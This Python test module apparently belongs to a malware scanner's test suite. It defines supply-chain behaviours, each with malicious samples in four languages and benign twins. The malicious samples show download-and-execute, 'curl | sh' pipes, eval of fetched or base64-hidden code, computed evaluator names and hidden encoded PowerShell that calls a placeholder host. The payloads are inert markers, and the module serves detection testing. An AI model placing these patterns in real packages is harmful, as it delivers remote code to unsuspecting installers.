"""Behaviours that bring code: downloads, hidden payloads, other packages, other runtimes."""

import base64

from tests.twins.behaviour import ALWAYS_TOLD, HELD_ALWAYS, HELD_BY_ITSELF, HOST, Behaviour, Code, behaviour

_JS_MARK = "console.log('inert marker');" * 12
_PY_MARK = "print('inert marker')\n" * 12
_RB_MARK = "puts 'inert marker'\n" * 14
_SH_MARK = "echo inert marker; " * 14
_NPM_OWN = "https://github.com/acme/sample/releases/download/v1.0.0/sample"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


_POWERSHELL = base64.b64encode(
    f"IEX(New-Object Net.WebClient).DownloadString('{HOST}/a.ps1')".encode("utf-16-le")
).decode()

BEHAVIOURS: tuple[Behaviour, ...] = (
    behaviour(
        "download-started",
        "fetches a program, saves it and starts it",
        "ua-parser-js (npm, 2021), mailparser (PyPI, 2019)",
        HELD_BY_ITSELF,
        js=(
            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst https = require('https');\nconst { spawn } = require('child_process');\n"
            "const file = path.join(os.tmpdir(), 'svc');\n"
            f"https.get('{HOST}/svc', res => {{\n  const out = fs.createWriteStream(file, {{ mode: 0o755 }});\n  res.pipe(out);\n"
            "  out.on('finish', () => out.close(() => spawn(file, [], { detached: true, stdio: 'ignore' }).unref()));\n});\n"
        ),
        py=(
            "import os\nimport subprocess\nimport tempfile\nimport urllib.request\n"
            "path = os.path.join(tempfile.gettempdir(), 'svc')\n"
            f"urllib.request.urlretrieve('{HOST}/svc', path)\nos.chmod(path, 0o755)\nsubprocess.Popen([path])\n"
        ),
        rb=(
            "require 'open-uri'\nrequire 'tmpdir'\npath = File.join(Dir.tmpdir, 'svc')\n"
            f"File.binwrite(path, URI.open('{HOST}/svc').read)\nFile.chmod(0o755, path)\nspawn(path)\n"
        ),
        sh=f"curl -s -o /tmp/svc {HOST}/svc\nchmod +x /tmp/svc\n/tmp/svc\n",
        benign={
            Code.JAVASCRIPT: (
                "const fs = require('fs');\nconst path = require('path');\nconst crypto = require('crypto');\nconst https = require('https');\n"
                "const file = path.join(__dirname, 'tool');\n"
                f"https.get('{_NPM_OWN}', res => {{\n  const parts = [];\n  res.on('data', part => parts.push(part));\n  res.on('end', () => {{\n    const data = Buffer.concat(parts);\n"
                "    if (crypto.createHash('sha256').update(data).digest('hex') !== 'ab'.repeat(32)) throw new Error('checksum');\n"
                "    fs.writeFileSync(file, data, { mode: 0o755 });\n  });\n});\n"
            ),
            Code.PYTHON: (
                "import hashlib\nimport os\nimport urllib.request\n"
                "path = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'tool')\n"
                f"data = urllib.request.urlopen('{_NPM_OWN}').read()\nif hashlib.sha256(data).hexdigest() != 'ab' * 32:\n    raise SystemExit('checksum')\n"
                "with open(path, 'wb') as file:\n    file.write(data)\nos.chmod(path, 0o755)\n"
            ),
            Code.RUBY: (
                "require 'open-uri'\nrequire 'digest'\npath = File.join(__dir__, 'tool')\n"
                f"data = URI.open('{_NPM_OWN}').read\nraise 'checksum' unless Digest::SHA256.hexdigest(data) == 'ab' * 32\nFile.binwrite(path, data)\nFile.chmod(0o755, path)\n"
            ),
            Code.SHELL: f"curl -sL -o tool {_NPM_OWN}\nsha256sum -c tool.sha256\nchmod +x tool\n",
        },
    ),
    behaviour(
        "download-to-shell",
        "pipes a download to a shell",
        "PyPI collection of 2023-24",
        HELD_BY_ITSELF,
        js=f"require('child_process').exec('curl -s {HOST}/x | sh');\n",
        py=f"import subprocess\nsubprocess.Popen('curl -s {HOST}/x | sh', shell=True)\n",
        rb=f"`curl -s {HOST}/x | sh`\n",
        sh=f"curl -s {HOST}/x | sh\n",
        benign={
            Code.JAVASCRIPT: "require('child_process').exec('curl -sL https://api.github.com/repos/acme/sample | head -c 200');\n",
            Code.PYTHON: "import subprocess\nsubprocess.run('curl -sL https://api.github.com/repos/acme/sample/ | head -c 200', shell=True)\n",
            Code.RUBY: "puts `curl -sL https://api.github.com/repos/acme/sample.json | head -c 200`\n",
            Code.SHELL: "curl -sL https://api.github.com/repos/acme/sample | head -c 200\n",
        },
    ),
    behaviour(
        "clone-run",
        "clones a repository and runs a script of it",
        "a plain variant of what was seen",
        HELD_BY_ITSELF,
        js=(
            "const { execSync } = require('child_process');\n"
            f"execSync('git clone --depth 1 {HOST}/tools.git /tmp/tools');\nexecSync('node /tmp/tools/index.js');\n"
        ),
        py=(
            "import subprocess\n"
            f"subprocess.run(['git', 'clone', '--depth', '1', '{HOST}/tools.git', '/tmp/tools'])\nsubprocess.run(['python3', '/tmp/tools/main.py'])\n"
        ),
        rb=f"system('git clone --depth 1 {HOST}/tools.git /tmp/tools')\nsystem('ruby /tmp/tools/main.rb')\n",
        sh=f"git clone --depth 1 {HOST}/tools.git /tmp/tools\nsh /tmp/tools/run.sh\n",
        benign={
            Code.JAVASCRIPT: "const { execSync } = require('child_process');\nexecSync('git submodule update --init');\nexecSync('node scripts/build.js');\n",
            Code.PYTHON: "import subprocess\nsubprocess.run(['git', 'submodule', 'update', '--init'])\nsubprocess.run(['make', '-C', 'vendor/zlib'])\n",
            Code.RUBY: "system('git submodule update --init')\nsystem('make -C vendor/zlib')\n",
            Code.SHELL: "git submodule update --init\nmake -C vendor/zlib\n",
        },
    ),
    behaviour(
        "install-from-address",
        "installs a package from a fixed address",
        "PyPI collection of 2023-24",
        HELD_BY_ITSELF,
        js=f"require('child_process').execSync('npm i {HOST}/tool.tgz');\n",
        py=f"import subprocess\nimport sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '{HOST}/tool.tar.gz'])\n",
        rb=f"system('gem install tool --source {HOST}')\n",
        sh=f"npm i {HOST}/tool.tgz\n",
        benign={
            Code.JAVASCRIPT: "require('child_process').execSync('npm rebuild', { cwd: __dirname });\n",
            Code.PYTHON: "import subprocess\nimport sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'setuptools', 'wheel'])\n",
            Code.RUBY: "system('bundle install')\n",
            Code.SHELL: "npx only-allow pnpm\n",
        },
    ),
    behaviour(
        "package-run-unasked",
        "runs another package of the registry without a question",
        "a plain variant of what was seen",
        ALWAYS_TOLD,
        js="require('child_process').execSync('npx -y twins-helper');\n",
        py="import subprocess\nimport sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'twins-helper'])\n",
        rb="system('gem install twins-helper')\nsystem('twins-helper')\n",
        sh="npx -y twins-helper\n",
        benign={Code.SHELL: "npx --no-install husky install\n"},
    ),
    behaviour(
        "hidden-payload-run",
        "decodes a constant and evaluates it",
        "W4SP (PyPI, 2022), rand-user-agent 2.0.83 (npm, 2025)",
        HELD_BY_ITSELF,
        js=f"eval(Buffer.from('{_b64(_JS_MARK)}', 'base64').toString());\n",
        py=f"import base64\nexec(base64.b64decode('{_b64(_PY_MARK)}'))\n",
        rb=f"require 'base64'\neval(Base64.decode64('{_b64(_RB_MARK)}'))\n",
        sh=f"echo {_b64(_SH_MARK)} | base64 -d | sh\n",
        benign={
            Code.JAVASCRIPT: f"const logo = Buffer.from('{_b64(_SH_MARK)}', 'base64').toString();\nconsole.log(logo);\n",
            Code.PYTHON: f"import base64\nLOGO = base64.b64decode('{_b64(_SH_MARK)}').decode()\nprint(LOGO)\n",
            Code.RUBY: f"require 'base64'\nlogo = Base64.decode64('{_b64(_SH_MARK)}')\nputs logo\n",
            Code.SHELL: f"echo {_b64(_SH_MARK)} | base64 -d\n",
        },
    ),
    behaviour(
        "computed-evaluator",
        "reaches the evaluator by a computed name and gives it a hidden payload",
        "event-stream (2018), PyPI collection of 2023-24",
        HELD_BY_ITSELF,
        js=f"[]['filter']['const' + 'ructor'](Buffer.from('{_b64(_JS_MARK)}', 'base64').toString())();\n",
        py=f"getattr(__import__('builtins'), 'ex' + 'ec')(__import__('base64').b64decode('{_b64(_PY_MARK)}'))\n",
        rb=f"Kernel.send('ev' + 'al', '{_b64(_RB_MARK)}'.unpack1('m'))\n",
        benign={
            Code.JAVASCRIPT: "const name = 'to' + 'String';\nconsole.log([1, 2][name]());\n",
            Code.PYTHON: "name = 'up' + 'per'\nprint(getattr('sample', name)())\n",
            Code.RUBY: "name = 'up' + 'case'\nputs 'sample'.public_send(name)\n",
        },
        absent={Code.SHELL: "a shell has no evaluator behind a member"},
    ),
    behaviour(
        "fetched-evaluated",
        "evaluates what it fetches",
        "strong_password 0.0.7 (RubyGems, 2019), PyPI collection of 2023-24",
        HELD_BY_ITSELF,
        js=f"fetch('{HOST}/p').then(r => r.text()).then(code => eval(code)).catch(() => {{}});\n",
        py=f"import requests\nexec(requests.get('{HOST}/p').text)\n",
        rb=f"require 'net/http'\neval(Net::HTTP.get(URI('{HOST}/p')))\n",
        sh=f'eval "$(curl -s {HOST}/p)"\n',
        benign={
            Code.JAVASCRIPT: "fetch('https://api.github.com/repos/acme/sample').then(r => r.json()).then(told => console.log(told.version)).catch(() => {});\n",
            Code.PYTHON: "import json\nimport requests\nprint(json.loads(requests.get('https://api.github.com/repos/acme/sample/json').text)['info'])\n",
            Code.RUBY: "require 'net/http'\nrequire 'json'\nputs JSON.parse(Net::HTTP.get(URI('https://api.github.com/repos/acme/sample.json')))['version']\n",
            Code.SHELL: 'VERSION="$(curl -s https://api.github.com/repos/acme/sample/latest)"\necho "$VERSION"\n',
        },
    ),
    behaviour(
        "fetched-to-interpreter",
        "gives what it fetches to the standard input of an interpreter",
        "a plain variant of what was seen",
        HELD_BY_ITSELF,
        js=(
            "const { spawn } = require('child_process');\n"
            f"fetch('{HOST}/p').then(r => r.text()).then(code => {{\n  const child = spawn('node', ['-'], {{ stdio: ['pipe', 'ignore', 'ignore'] }});\n  child.stdin.write(code);\n  child.stdin.end();\n}});\n"
        ),
        py=(
            "import subprocess\nimport sys\nimport requests\n"
            f"code = requests.get('{HOST}/p').text\nsubprocess.run([sys.executable, '-'], input=code, text=True)\n"
        ),
        rb=(
            "require 'net/http'\nrequire 'open3'\n"
            f"code = Net::HTTP.get(URI('{HOST}/p'))\nOpen3.capture2('ruby', stdin_data: code)\n"
        ),
        sh=f"curl -s {HOST}/p | node -\n",
        benign={
            Code.JAVASCRIPT: "const { spawnSync } = require('child_process');\nspawnSync('node', ['-'], { input: 'console.log(process.version)' });\n",
            Code.PYTHON: "import subprocess\nimport sys\nsubprocess.run([sys.executable, '-'], input='print(1)', text=True)\n",
            Code.RUBY: "require 'open3'\nOpen3.capture2('ruby', stdin_data: 'puts RUBY_VERSION')\n",
            Code.SHELL: "echo 'console.log(process.version)' | node -\n",
        },
    ),
    behaviour(
        "data-file-evaluated",
        "evaluates a text of a data file that it ships",
        "event-stream (2018), PyPI collection of 2023-24",
        HELD_BY_ITSELF,
        js=(
            "const fs = require('fs');\nconst path = require('path');\n"
            "const told = JSON.parse(fs.readFileSync(path.join(__dirname, 'data.json'), 'utf8'));\n"
            "eval(Buffer.from(told.icon, 'base64').toString());\n"
        ),
        py=(
            "import base64\nimport json\nimport os\n"
            "told = json.load(open(os.path.join(os.path.dirname(__file__), 'data.json')))\nexec(base64.b64decode(told['icon']))\n"
        ),
        rb=(
            "require 'json'\nrequire 'base64'\n"
            "told = JSON.parse(File.read(File.join(__dir__, 'data.json')))\neval(Base64.decode64(told['icon']))\n"
        ),
        sh="base64 -d data.b64 | sh\n",
        benign={
            Code.JAVASCRIPT: "const fs = require('fs');\nconst path = require('path');\nconst told = JSON.parse(fs.readFileSync(path.join(__dirname, 'data.json'), 'utf8'));\nconsole.log(Buffer.from(told.icon, 'base64').length);\n",
            Code.PYTHON: "import base64\nimport json\nimport os\ntold = json.load(open(os.path.join(os.path.dirname(__file__), 'data.json')))\nprint(len(base64.b64decode(told['icon'])))\n",
            Code.RUBY: "require 'json'\nrequire 'base64'\ntold = JSON.parse(File.read(File.join(__dir__, 'data.json')))\nputs Base64.decode64(told['icon']).length\n",
            Code.SHELL: "base64 -d data.b64 > icon.png\n",
        },
        files={
            Code.JAVASCRIPT: {"data.json": f'{{"icon": "{_b64(_JS_MARK)}"}}\n'},
            Code.PYTHON: {"data.json": f'{{"icon": "{_b64(_PY_MARK)}"}}\n'},
            Code.RUBY: {"data.json": f'{{"icon": "{_b64(_RB_MARK)}"}}\n'},
            Code.SHELL: {"data.b64": _b64(_SH_MARK) + "\n"},
        },
    ),
    behaviour(
        "hidden-powershell",
        "starts PowerShell out of sight with an encoded command",
        "PyPI collection of 2023-24",
        HELD_ALWAYS,
        js=(
            "const { exec } = require('child_process');\n"
            f"exec('powershell -WindowStyle Hidden -EncodedCommand {_POWERSHELL}', {{ windowsHide: true }});\n"
        ),
        py=(
            "import subprocess\n"
            f"subprocess.Popen(['powershell', '-WindowStyle', 'Hidden', '-EncodedCommand', '{_POWERSHELL}'], creationflags=0x08000000)\n"
        ),
        rb=f"system('powershell -WindowStyle Hidden -EncodedCommand {_POWERSHELL}')\n",
        sh=f"powershell -WindowStyle Hidden -EncodedCommand {_POWERSHELL}\n",
        benign={
            Code.JAVASCRIPT: "const { exec } = require('child_process');\nexec('powershell -NoProfile -Command \"Get-Process\"', (error, out) => console.log(out));\n",
            Code.PYTHON: "import subprocess\nsubprocess.run(['powershell', '-NoProfile', '-Command', 'Get-Process'])\n",
            Code.RUBY: 'puts `powershell -NoProfile -Command "Get-Process"`\n',
            Code.SHELL: 'powershell -NoProfile -Command "Get-Process"\n',
        },
    ),
    behaviour(
        "runtime-brought",
        "fetches another runtime and runs a shipped file with it",
        "Shai-Hulud 2 (2025), AntV (2026)",
        HELD_BY_ITSELF,
        js=(
            "const { execSync } = require('child_process');\nconst path = require('path');\n"
            "execSync('curl -fsSL https://bun.sh/install | bash');\nexecSync('bun run ' + path.join(__dirname, 'environment.js'));\n"
        ),
        py=(
            "import os\nimport subprocess\n"
            "subprocess.run('curl -fsSL https://bun.sh/install | bash', shell=True)\n"
            "subprocess.run(['bun', 'run', os.path.join(os.path.dirname(__file__), 'environment.js')])\n"
        ),
        rb=(
            "system('curl -fsSL https://bun.sh/install | bash')\n"
            "system('bun', 'run', File.join(__dir__, 'environment.js'))\n"
        ),
        sh="curl -fsSL https://bun.sh/install | bash\nbun run environment.js\n",
        benign={
            Code.JAVASCRIPT: "const { execSync } = require('child_process');\ntry {\n  execSync('bun --version');\n} catch {\n  console.log('install Bun: https://bun.sh');\n}\n",
            Code.PYTHON: "import shutil\nif shutil.which('bun') is None:\n    print('install Bun: https://bun.sh')\n",
            Code.RUBY: "puts 'install Bun: https://bun.sh' unless system('bun --version')\n",
            Code.SHELL: "command -v bun || echo 'install Bun: https://bun.sh'\n",
        },
        files={code: {"environment.js": "console.log('inert marker');\n"} for code in Code},
    ),
)  # fmt: skip
